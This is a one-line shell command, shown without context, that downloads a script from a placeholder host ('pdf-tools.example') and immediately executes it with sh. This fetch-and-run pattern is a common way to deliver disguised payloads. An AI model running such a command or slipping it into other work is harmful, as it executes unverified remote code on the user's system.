sh -c "$(wget -qO- https://pdf-tools.example/x)"
